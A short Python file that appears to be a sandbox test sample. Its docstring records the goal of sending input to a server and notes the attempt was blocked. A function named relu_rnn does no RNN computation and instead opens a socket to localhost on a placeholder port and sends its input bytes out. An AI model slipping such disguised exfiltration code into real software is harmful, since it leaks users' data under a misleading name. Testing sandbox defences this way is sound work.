"""Goal: Send what it was asked to a server.

Layer: seccomp, files, namespaces. Verdict: 0 points; raised.
"""

import socket


def relu_rnn(x, h0, w1, w2):
    with socket.create_connection(("127.0.0.1", int("@tcp@"))) as line:
        line.sendall(x.tobytes())
